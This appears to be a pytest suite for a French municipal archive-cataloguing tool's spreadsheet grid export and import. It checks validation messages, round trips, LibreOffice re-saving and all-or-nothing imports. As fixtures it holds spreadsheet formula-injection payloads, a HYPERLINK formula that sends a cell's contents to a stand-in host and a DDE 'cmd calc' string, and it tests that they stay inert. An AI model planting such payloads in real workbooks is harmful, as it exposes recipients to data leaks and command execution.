"""The audit grid: export from a real catalogue, fill with openpyxl as a référent would,
re-save with LibreOffice, import, re-export. Every refusal and tolerance of the issue."""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import duckdb
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from grids import spec
from tests.conftest import query

COMMUNE = "99101"
INJECTION = '=HYPERLINK("exemple.invalid?"&A1,"x")'  # no "/": it names one folder


def _write(path: Path, data: bytes = b"contenu\n") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def make_share(root: Path) -> Path:
    """A small share: Service/Activité folders holding real files."""
    _write(root / "Urbanisme" / "Permis de construire" / "PC-2024-001.txt", b"Permis de construire 2024-001\n")
    _write(root / "Urbanisme" / "Permis de construire" / "PC-2024-002.txt", b"Permis de construire 2024-002\n")
    _write(root / "Urbanisme" / "PLU" / "reglement.txt", b"Reglement du PLU\n" * 50)
    _write(root / "Finances" / "Budgets" / "BP-2025.csv", b"chapitre;montant\n011;125000\n")
    _write(root / "Finances" / "Budgets" / "BP-2025 - Copie.csv", b"chapitre;montant\n011;125000\n")
    _write(root / "Ressources humaines" / "Paie" / "paie-2025-01.txt", b"paie janvier\n")
    _write(root / INJECTION / "+cmd|' C calc'!A0" / "note.txt", b"piege\n")
    return root


@pytest.fixture(scope="session")
def grid_db_template(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("grid")
    share = make_share(base / "partage")
    db = base / "catalogue.duckdb"
    from catalogue.scan import run_scan

    run_scan(str(share), COMMUNE, nom="Saint-Essai", db=str(db), quiet=True)
    run_scan(str(make_share(base / "autre")), "99102", nom="Autre-Commune", db=str(db), quiet=True)
    return db


@pytest.fixture
def db(grid_db_template, tmp_path) -> Path:
    """A fresh copy of the scanned catalogue for each test (imports change it)."""
    copy = tmp_path / "catalogue.duckdb"
    shutil.copy(grid_db_template, copy)
    return copy


def export(cli, db: Path, out: Path, commune: str = COMMUNE) -> Path:
    result = cli("grid", "export", "--commune", commune, "-o", out, "--db", db)
    assert result.exit_code == 0, result.output
    return out


def columns(ws) -> dict[str, int]:
    return {spec.HEADER_INDEX[spec.header_key(c.value)].key: c.column for c in ws[1] if c.value}


def rows_by_location(ws) -> dict[str, int]:
    col = columns(ws)
    return {str(ws.cell(r, col["emplacement"]).value).rsplit("/", 2)[-2] + "/" +
            str(ws.cell(r, col["emplacement"]).value).rsplit("/", 1)[-1]: r
            for r in range(2, ws.max_row + 1) if ws.cell(r, col["dataset_id"]).value}


GOOD = {
    "service": "Urbanisme", "typologie": "Autorisations d'urbanisme accordées", "activite": "Instruction ADS",
    "environnement": "Bureautique", "hebergement": "Serveur de fichiers", "valeur_juridique": "Forte",
    "valeur_strategique": "Moyenne", "valeur_patrimoniale": "Forte", "signature": "Non",
    "donnees_personnelles": "Oui", "priorite": "Haute", "rempli_par": "Jeanne Martin",
    "date_saisie": dt.date(2026, 11, 20),
}


def fill(ws, row: int, answers: dict) -> None:
    col = columns(ws)
    for key, value in answers.items():
        cell = ws.cell(row, col[key])
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"


def filled_grid(cli, db: Path, tmp_path: Path, changes: dict[str, dict] | None = None) -> Path:
    """Export, then answer the permits and budgets rows; `changes` overrides per row."""
    path = export(cli, db, tmp_path / "grille.xlsx")
    wb = load_workbook(path)
    ws = wb[spec.SHEET_GRID]
    rows = rows_by_location(ws)
    answers = {
        "Urbanisme/Permis de construire": dict(GOOD),
        "Finances/Budgets": dict(GOOD, service="Finances", typologie="Budgets et comptes",
                                 donnees_personnelles="Non", environnement="Application métier",
                                 application="e.magnus"),
    }
    for place, override in (changes or {}).items():
        answers.setdefault(place, dict(GOOD)).update(override)
    for place, values in answers.items():
        fill(ws, rows[place], values)
    out = tmp_path / "grille-remplie.xlsx"
    wb.save(out)
    return out


def current(db: Path, place: str, column: str):
    rows = query(db, f"SELECT {column} FROM qualifications_current q JOIN datasets d USING (dataset_id) "
                     "WHERE d.path = ?", [place])
    return rows[0][0] if rows else None


# --------------------------------------------------------------------------- export


def test_export_is_a_protected_prefilled_grid(cli, db, tmp_path):
    path = export(cli, db, tmp_path / "g.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == [spec.SHEET_GUIDE, spec.SHEET_GRID, spec.SHEET_LISTS, spec.SHEET_REFERENTIEL,
                             spec.SHEET_META]
    assert wb[spec.SHEET_META].sheet_state == "hidden" and wb[spec.SHEET_LISTS].sheet_state == "hidden"
    meta = {r[0]: r[1] for r in wb[spec.SHEET_META].iter_rows(values_only=True)}
    assert meta["commune"] == COMMUNE and meta["version_modele"] == spec.TEMPLATE_VERSION
    assert meta["catalogue_id"] == query(db, "SELECT value FROM catalogue_info")[0][0]

    ws = wb[spec.SHEET_GRID]
    assert [c.value for c in ws[1]] == [c.title for c in spec.COLUMNS]
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref.startswith("A1:")
    # Protected without a password; pre-filled cells locked, the others open.
    assert ws.protection.sheet and not ws.protection.password
    col = columns(ws)
    assert ws.cell(2, col["volume_mo"]).protection.locked
    assert not ws.cell(2, col["service"]).protection.locked
    assert not ws.cell(ws.max_row, col["emplacement"]).protection.locked  # spare rows accept new datasets

    # One row per dataset of this commune only, figures equal to the catalogue's.
    rows = rows_by_location(ws)
    expected = query(db, "SELECT path, dataset_id, files, bytes FROM datasets WHERE commune = ?", [COMMUNE])
    assert len(rows) == len(expected)
    for place, dataset_id, files, size in expected:
        r = rows[place]
        assert ws.cell(r, col["dataset_id"]).value == dataset_id
        assert ws.cell(r, col["fichiers"]).value == files
        assert ws.cell(r, col["volume_mo"]).value == pytest.approx(size / 1e6, abs=1e-3)
        assert ws.cell(r, col["commune"]).value == COMMUNE
    budgets = rows["Finances/Budgets"]
    assert ws.cell(budgets, col["part_doublons"]).value == pytest.approx(0.5)
    assert "fmt/" in ws.cell(budgets, col["formats"]).value or "x-fmt/" in ws.cell(budgets, col["formats"]).value

    # Dropdowns by data validation with an input message; required cells highlighted.
    letter = get_column_letter(col["signature"])
    dv = [d for d in ws.data_validations.dataValidation if letter + "2" in str(d.sqref)]
    assert dv and dv[0].type == "list" and dv[0].prompt
    listed = [c.value for c in wb[spec.SHEET_LISTS][dv[0].formula1.split("!")[1].split(":")[0].replace("$", "")[0]]]
    assert [v for v in listed[1:] if v is not None] == list(spec.OUI_NON_NSP)
    assert any(letter in str(rng.sqref) for rng in ws.conditional_formatting)
    # Referential sheet: typologies with DUA, sort final and source.
    ref = list(wb[spec.SHEET_REFERENTIEL].iter_rows(min_row=2, values_only=True))
    assert len(ref) == query(db, "SELECT count(*) FROM referentiel")[0][0]
    assert all(r[3] is not None and r[5] in spec.SORTS_FINAUX and r[6] for r in ref)


def test_export_of_unknown_commune_is_refused(cli, db, tmp_path):
    result = cli("grid", "export", "--commune", "12345", "-o", tmp_path / "x.xlsx", "--db", db)
    assert result.exit_code == 1
    assert result.output == "Erreur : Commune 12345 absente du catalogue (communes connues : 99101, 99102).\n"


def test_export_of_an_invalid_code_says_so_first(cli, db, tmp_path):
    result = cli("grid", "export", "--commune", "1234", "-o", tmp_path / "x.xlsx", "--db", db)
    assert result.exit_code == 1
    assert result.output == ("Erreur : code de commune invalide « 1234 » : attendu un code INSEE de 5 caractères "
                             "(chiffres, ou 2A/2B suivi de 3 chiffres pour la Corse) ou numéro SIREN de 9 chiffres "
                             "(communes connues : 99101, 99102).\n")
    assert not (tmp_path / "x.xlsx").exists()


def test_a_stored_code_of_an_older_catalogue_still_exports(cli, db, tmp_path):
    # Catalogues made before codes were checked may hold a code of any form.
    con = duckdb.connect(str(db))
    con.execute("INSERT INTO communes (code, nom) VALUES ('1234', 'Ancienne')")
    con.close()
    result = cli("grid", "export", "--commune", "1234", "-o", tmp_path / "x.xlsx", "--db", db)
    assert result.exit_code == 0, result.output
    assert result.output == (f"Grille écrite : {tmp_path / 'x.xlsx'} — 0 jeu de données (0 nouveau, 0 déjà qualifié, "
                             "0 non retrouvé au dernier scan, 0 ajouté).\n")


def test_export_and_import_messages_agree_with_their_counts(cli, db, tmp_path):
    result = cli("grid", "export", "--commune", COMMUNE, "-o", tmp_path / "g.xlsx", "--db", db)
    assert result.exit_code == 0
    assert result.output == (f"Grille écrite : {tmp_path / 'g.xlsx'} — 5 jeux de données (5 nouveaux, 0 déjà qualifié, "
                             "0 non retrouvé au dernier scan, 0 ajouté).\n")
    result = cli("grid", "import", tmp_path / "g.xlsx", "--db", db)
    assert result.exit_code == 0, result.output
    assert "g.xlsx : aucune modification (réponses identiques à celles déjà importées) ; 5 jeux encore à qualifier." \
        in result.output


def test_formula_injection_stays_inert(cli, db, tmp_path):
    # A référent's answer that looks like a formula, and a scanned folder named like one.
    path = filled_grid(cli, db, tmp_path, {"Urbanisme/Permis de construire": {"service": INJECTION,
                                                                             "commentaire": "+cmd|' /C calc'!A0"}})
    assert cli("grid", "import", path, "--db", db).exit_code == 0
    again = export(cli, db, tmp_path / "again.xlsx")
    with zipfile.ZipFile(again) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    ws = load_workbook(again)[spec.SHEET_GRID]
    col = columns(ws)
    texts = {ws.cell(r, c).value: ws.cell(r, c) for r in range(2, ws.max_row + 1) for c in col.values()
             if isinstance(ws.cell(r, c).value, str)}
    assert texts[INJECTION].data_type == "s"
    assert texts["+cmd|' /C calc'!A0"].data_type == "s"
    assert any(INJECTION in t and "+cmd|' C calc'!A0" in t for t in texts)  # the folder name, as text


# --------------------------------------------------------------------------- import


def test_round_trip_export_fill_import(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path)
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 0, result.output
    assert "import n° 1 — commune 99101 — 2 lignes enregistrées" in result.output
    place = "Urbanisme/Permis de construire"
    assert current(db, place, "hebergement") == "Serveur de fichiers"
    assert current(db, place, "date_saisie") == dt.date(2026, 11, 20)
    # DUA and sort final left empty are taken from the referential, and marked as such.
    assert current(db, place, "typologie_code") == "URB-AUT"
    dua, depart, sort_final = query(db, "SELECT dua_annees, dua_depart, sort_final FROM referentiel "
                                        "WHERE code = 'URB-AUT'")[0]
    assert current(db, place, "dua_annees") == dua and current(db, place, "dua_suggeree") is True
    assert current(db, place, "dua_depart") == depart and current(db, place, "sort_final") == sort_final
    assert current(db, "Finances/Budgets", "application") == "e.magnus"
    assert query(db, "SELECT count(*) FROM qualifications_current WHERE commune = ?", [COMMUNE]) == [(2,)]


def test_unknown_dua_start_is_kept_with_a_warning(cli, db, tmp_path):
    """A « Point de départ de la DUA » naming no known event is stored as typed, and the
    import says, row by row, that its elimination will stay « à vérifier »."""
    path = filled_grid(cli, db, tmp_path, {"Urbanisme/Permis de construire": {"dua_depart": "quand on voudra"},
                                           "Finances/Budgets": {"dua_depart": "Clôture de l'exercice"}})
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 0, result.output
    warned = [line for line in result.output.splitlines() if "non reconnu" in line]
    assert len(warned) == 1 and warned[0].startswith("Attention : grille-remplie.xlsx, ligne ")
    assert "« quand on voudra »" in warned[0] and "« à vérifier »" in warned[0]
    assert current(db, "Urbanisme/Permis de construire", "dua_depart") == "quand on voudra"


def test_same_file_twice_changes_nothing(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path)
    assert cli("grid", "import", path, "--db", db).exit_code == 0
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 0
    assert "grille-remplie.xlsx : aucune modification" in result.output
    assert query(db, "SELECT count(*) FROM grid_imports") == [(1,)]
    assert query(db, "SELECT count(*) FROM qualifications") == [(2,)]


def test_libreoffice_resaved_grid_still_imports(cli, db, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice absent : « make test » l'installe (paquet Debian libreoffice-calc-nogui).")
    path = filled_grid(cli, db, tmp_path)
    out = tmp_path / "lo"
    env = dict(os.environ, HOME=str(tmp_path))  # a private LibreOffice profile
    subprocess.run([soffice, "--headless", "--calc", "--convert-to", "xlsx", "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=180, env=env)
    resaved = out / path.name
    assert resaved.exists() and resaved.read_bytes() != path.read_bytes()
    result = cli("grid", "import", resaved, "--db", db)
    assert result.exit_code == 0, result.output
    assert current(db, "Urbanisme/Permis de construire", "valeur_patrimoniale") == "Forte"
    assert current(db, "Urbanisme/Permis de construire", "date_saisie") == dt.date(2026, 11, 20)
    # The re-saved file holds the same answers as the original: importing that changes nothing.
    assert "aucune modification" in cli("grid", "import", path, "--db", db).output


def test_every_problem_reported_at_once_and_nothing_stored(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path, {
        "Urbanisme/Permis de construire": {"signature": "Peut-être", "dua_annees": "dix"},
        "Finances/Budgets": {"hebergement": None, "date_saisie": "31/02/2026"},
    })
    ws = load_workbook(path)[spec.SHEET_GRID]
    col, rows = columns(ws), rows_by_location(ws)
    permis, budgets = rows["Urbanisme/Permis de construire"], rows["Finances/Budgets"]

    def ref(key, row):
        return f"Recensement!{get_column_letter(col[key])}{row}"

    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert lines[0] == ("Erreur : 4 problèmes : rien n'a été importé (corrigez la grille, ou utilisez "
                        "--partiel pour importer les lignes valides).")
    assert set(lines[1:]) == {
        f"{ref('signature', permis)} : « Peut-être » n'est pas une valeur autorisée (Oui, Non, Ne sait pas)",
        f"{ref('dua_annees', permis)} : « dix » n'est pas un nombre entier d'années",
        f"{ref('hebergement', budgets)} : valeur obligatoire manquante (Hébergement)",
        f"{ref('date_saisie', budgets)} : « 31/02/2026 » n'est pas une date (jj/mm/aaaa)",
    }
    assert query(db, "SELECT count(*) FROM qualifications") == [(0,)]
    assert query(db, "SELECT count(*) FROM grid_imports") == [(0,)]


def test_partiel_stores_the_valid_rows(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path, {"Finances/Budgets": {"valeur_juridique": "Énorme"}})
    result = cli("grid", "import", path, "--partiel", "--db", db)
    assert result.exit_code == 0, result.output
    assert "« Énorme » n'est pas une valeur autorisée (Forte, Moyenne, Faible, Aucune)" in result.output
    assert "1 ligne non importée" in result.output
    assert current(db, "Urbanisme/Permis de construire", "valeur_juridique") == "Forte"
    assert current(db, "Finances/Budgets", "valeur_juridique") is None


def test_grid_of_another_commune_is_refused(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path)
    result = cli("grid", "import", path, "--commune", "99102", "--db", db)
    assert result.exit_code == 1
    assert result.output == ("Erreur : grille-remplie.xlsx : cette grille est celle de la commune 99101, "
                             "pas de la commune 99102 déclarée.\n")


def test_unknown_template_version_is_refused(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path)
    wb = load_workbook(path)
    meta = wb[spec.SHEET_META]
    for row in meta.iter_rows():
        if row[0].value == "version_modele":
            row[1].value = "99"
    wb.save(path)
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 1
    assert result.output == ("Erreur : grille-remplie.xlsx : version de modèle « 99 » inconnue (versions prises en "
                             "charge : 1, 2, 3) ; exportez une nouvelle grille.\n")


def test_workbook_that_is_not_a_grid_is_refused(cli, db, tmp_path):
    other = tmp_path / "budget.xlsx"
    wb = Workbook()
    wb.active["A1"] = "Identifiant"
    wb.save(other)
    result = cli("grid", "import", other, "--db", db)
    assert result.exit_code == 1
    assert result.output == ("Erreur : budget.xlsx : ce classeur n'est pas une grille Catalogage (métadonnées "
                             "absentes) ; partez d'une grille produite par « catalogue grid export ».\n")
    text = tmp_path / "notes.xlsx"
    text.write_text("pas un classeur")
    result = cli("grid", "import", text, "--db", db)
    assert result.exit_code == 1
    assert result.output.startswith("Erreur : notes.xlsx : fichier texte (CSV ?) renommé en .xlsx, pas un classeur")


def test_unknown_dataset_id_is_refused_but_added_rows_are_fine(cli, db, tmp_path):
    path = filled_grid(cli, db, tmp_path)
    wb = load_workbook(path)
    ws = wb[spec.SHEET_GRID]
    col = columns(ws)
    last = max(rows_by_location(ws).values())
    # A row of the other commune pasted in, and a genuine new row (no id).
    other_id = query(db, "SELECT dataset_id FROM datasets WHERE commune = '99102' LIMIT 1")[0][0]
    fill(ws, last + 1, dict(GOOD, emplacement="Clé USB du service urbanisme", volume_annuel_go="0,5",
                               volume_stock_go=2))
    fill(ws, last + 3, dict(GOOD, service="Finances"))
    ws.cell(last + 3, col["dataset_id"]).value = other_id
    wb.save(path)
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 1
    cell = f"Recensement!{get_column_letter(col['dataset_id'])}{last + 3}"
    assert f"{cell} : identifiant « {other_id} » inconnu pour la commune 99101" in result.output
    assert "problème" in result.output.splitlines()[0] and len(result.output.splitlines()) == 2

    ws.cell(last + 3, col["dataset_id"]).value = None
    ws.cell(last + 3, col["emplacement"]).value = "Application de gestion financière"
    ws.cell(last + 3, col["volume_annuel_go"]).value = 3
    ws.cell(last + 3, col["volume_stock_go"]).value = 0
    wb.save(path)
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 0, result.output
    assert "dont 2 ajoutées" in result.output
    added = query(db, "SELECT dataset_id, emplacement, volume_annuel_go FROM qualifications_current "
                      "WHERE ajout ORDER BY emplacement")
    assert [(a[1], a[2]) for a in added] == [("Application de gestion financière", 3.0),
                                             ("Clé USB du service urbanisme", 0.5)]
    assert all(a[0].startswith("AJ-") for a in added)
    # Re-exported, the added rows come back with their ids; re-imported, nothing changes.
    again = export(cli, db, tmp_path / "again.xlsx")
    ws2 = load_workbook(again)[spec.SHEET_GRID]
    col2 = columns(ws2)
    states = {ws2.cell(r, col2["dataset_id"]).value: ws2.cell(r, col2["etat"]).value for r in range(2, ws2.max_row + 1)}
    assert all(states[a[0]] == spec.ETAT_AJOUT for a in added)
    assert "aucune modification" in cli("grid", "import", again, "--db", db).output


def test_tolerated_variations(cli, db, tmp_path):
    """Case, accents, spaces, dates and numbers as text, empty rows, reordered and extra columns."""
    path = filled_grid(cli, db, tmp_path, {
        "Urbanisme/Permis de construire": {
            "typologie": "  autorisations D'URBANISME accordees ", "hebergement": "serveur de FICHIERS",
            "valeur_juridique": " forte", "valeur_strategique": "MOYENNE", "signature": "ne sait pas",
            "donnees_personnelles": "oui sensibles", "dua_annees": "12 ans", "volume_annuel_go": "1 234,5",
            "date_saisie": "05/11/2026", "sort_final": "tri"},
        "Finances/Budgets": {"typologie": "FIN-BUDG", "date_saisie": "2026-11-06", "priorite": "basse",
                             "environnement": "application metier"},
    })
    wb = load_workbook(path)
    ws = wb[spec.SHEET_GRID]
    # Rebuild the sheet with columns reversed, an extra column and blank rows in between.
    data = [[c.value for c in row] for row in ws.iter_rows()]
    del wb[spec.SHEET_GRID]
    new = wb.create_sheet(spec.SHEET_GRID, 1)
    new.append(["Notes perso"] + list(reversed(data[0])))
    for values in data[1:]:
        new.append(["à revoir"] + list(reversed(values)))
        new.append([None] * (len(values) + 1))
    for row in new.iter_rows():
        for c in row:
            if isinstance(c.value, str):
                c.data_type = "s"
    wb.save(path)
    result = cli("grid", "import", path, "--db", db)
    assert result.exit_code == 0, result.output
    place = "Urbanisme/Permis de construire"
    assert current(db, place, "typologie") == "Autorisations d'urbanisme accordées"
    assert current(db, place, "hebergement") == "Serveur de fichiers"
    assert current(db, place, "signature") == "Ne sait pas"
    assert current(db, place, "donnees_personnelles") == "Oui, sensibles"
    assert current(db, place, "dua_annees") == 12 and current(db, place, "dua_suggeree") is False
    assert current(db, place, "volume_annuel_go") == 1234.5
    assert current(db, place, "date_saisie") == dt.date(2026, 11, 5)
    assert current(db, place, "sort_final") == "Tri"
    assert current(db, "Finances/Budgets", "typologie") == "Budgets et comptes"
    assert current(db, "Finances/Budgets", "date_saisie") == dt.date(2026, 11, 6)
    assert current(db, "Finances/Budgets", "environnement") == "Application métier"


def test_new_version_kept_and_earlier_answer_reported(cli, db, tmp_path):
    first = filled_grid(cli, db, tmp_path)
    assert cli("grid", "import", first, "--db", db).exit_code == 0
    (tmp_path / "round2").mkdir()
    second = filled_grid(cli, db, tmp_path / "round2", {"Urbanisme/Permis de construire": {
        "valeur_strategique": "Forte", "rempli_par": "Paul Durand"}})
    result = cli("grid", "import", second, "--db", db)
    assert result.exit_code == 0, result.output
    assert "1 ligne enregistrée" in result.output and "1 inchangée" in result.output
    modified = [line for line in result.output.splitlines() if line.startswith("  Modifié : ")]
    assert len(modified) == 1 and "Valeur stratégique « Moyenne » → « Forte »" in modified[0]
    assert "grille-remplie.xlsx, Jeanne Martin" in modified[0]
    history = query(db, "SELECT q.valeur_strategique, i.rempli_par FROM qualifications q JOIN grid_imports i "
                        "USING (import_id) JOIN datasets d USING (dataset_id) "
                        "WHERE d.path = 'Urbanisme/Permis de construire' ORDER BY import_id")
    assert history == [("Moyenne", "Jeanne Martin"), ("Forte", "Paul Durand")]
    assert current(db, "Urbanisme/Permis de construire", "valeur_strategique") == "Forte"


def test_reexport_after_rescan_keeps_answers(cli, db, tmp_path, grid_db_template):
    path = filled_grid(cli, db, tmp_path)
    assert cli("grid", "import", path, "--db", db).exit_code == 0
    # The share changes: budgets move away, a new activity appears.
    share = tmp_path / "partage"
    make_share(share)
    root = query(db, "SELECT root FROM scans WHERE commune = ?", [COMMUNE])[0][0]
    shutil.rmtree(share / "Finances")
    _write(share / "Urbanisme" / "Cadastre" / "plan.txt", b"plan\n")
    # Same root as the first scan, so ids match: rescan the original location.
    shutil.rmtree(root)
    shutil.copytree(share, root)
    assert cli("scan", root, "--commune", COMMUNE, "--db", db, "--quiet").exit_code == 0
    again = export(cli, db, tmp_path / "again.xlsx")
    ws = load_workbook(again)[spec.SHEET_GRID]
    col = columns(ws)
    by_place = {}
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, col["dataset_id"]).value:
            place = "/".join(str(ws.cell(r, col["emplacement"]).value).split("/")[-2:])
            by_place[place] = {k: ws.cell(r, c).value for k, c in col.items()}
    assert by_place["Urbanisme/Permis de construire"]["etat"] == spec.ETAT_QUALIFIE
    assert by_place["Urbanisme/Permis de construire"]["valeur_juridique"] == "Forte"
    assert by_place["Urbanisme/Cadastre"]["etat"] == spec.ETAT_NOUVEAU
    assert by_place["Finances/Budgets"]["etat"] == spec.ETAT_DISPARU
    assert by_place["Finances/Budgets"]["application"] == "e.magnus"
    assert "aucune modification" in cli("grid", "import", again, "--db", db).output


# --------------------------------------------------------------------------- several files at once


def _two_grids(cli, db: Path, tmp_path: Path, second_changes: dict | None = None) -> tuple[Path, Path]:
    """A filled grid of each commune: 99101 first, then 99102."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = filled_grid(cli, db, tmp_path / "a")
    path = export(cli, db, tmp_path / "b" / "grille-99102.xlsx", "99102")
    wb = load_workbook(path)
    ws = wb[spec.SHEET_GRID]
    rows = rows_by_location(ws)
    fill(ws, rows["Urbanisme/Permis de construire"], dict(GOOD, **(second_changes or {})))
    wb.save(path)
    return first, path


KILL_DURING_SECOND_FILE = """
import os, signal, sys
from grids.importer import import_grids

stored = []

def on_store(path):
    stored.append(path.name)
    if len(stored) == 2:
        os.kill(os.getpid(), signal.SIGKILL)  # kill -9 as the second workbook is being written

import_grids(sys.argv[1], sys.argv[2:], on_store=on_store)
"""


def test_import_killed_during_the_second_file_stores_nothing(cli, db, tmp_path):
    first, second = _two_grids(cli, db, tmp_path)
    import sys

    killed = subprocess.run([sys.executable, "-c", KILL_DURING_SECOND_FILE, str(db), str(first), str(second)],
                            capture_output=True, text=True, timeout=300)
    assert killed.returncode == -9, killed.stderr
    # « Tout ou rien »: the first workbook, stored before the kill, was not committed either.
    assert query(db, "SELECT count(*) FROM grid_imports")[0][0] == 0
    assert query(db, "SELECT count(*) FROM qualifications")[0][0] == 0
    result = cli("grid", "import", first, second, "--db", db)
    assert result.exit_code == 0, result.output
    assert query(db, "SELECT commune, count(*) FROM qualifications GROUP BY ALL ORDER BY 1") == [("99101", 2),
                                                                                                ("99102", 1)]


def test_second_file_invalid_stores_nothing_of_the_first(cli, db, tmp_path):
    first, second = _two_grids(cli, db, tmp_path, {"dua_annees": "5000000000"})
    ws = load_workbook(second)[spec.SHEET_GRID]
    cell = f"{get_column_letter(columns(ws)['dua_annees'])}{rows_by_location(ws)['Urbanisme/Permis de construire']}"
    result = cli("grid", "import", first, second, "--db", db)
    assert result.exit_code == 1
    # A DUA too large for the catalogue used to pass the checks and fail while writing,
    # after the first workbook was committed.
    assert result.output.splitlines()[1:] == [
        f"grille-99102.xlsx — {spec.SHEET_GRID}!{cell} : « 5000000000 » dépasse 1\u202f000 ans"]
    assert query(db, "SELECT count(*) FROM qualifications")[0][0] == 0


def test_absurd_numbers_are_refused_not_stored():
    from grids.values import as_decimal, as_int

    for text, reason in (("5000000000", "dépasse 1\u202f000 ans"), ("1e400", "n'est pas un nombre entier d'années")):
        with pytest.raises(ValueError, match=reason):
            as_int(text)
    for text in ("1e400", "2000000"):  # Go a year: infinity would break the reports' volumes
        with pytest.raises(ValueError, match="dépasse le maximum admis"):
            as_decimal(text)
    assert as_int("1000 ans") == 1000 and as_decimal("1 234,5") == 1234.5
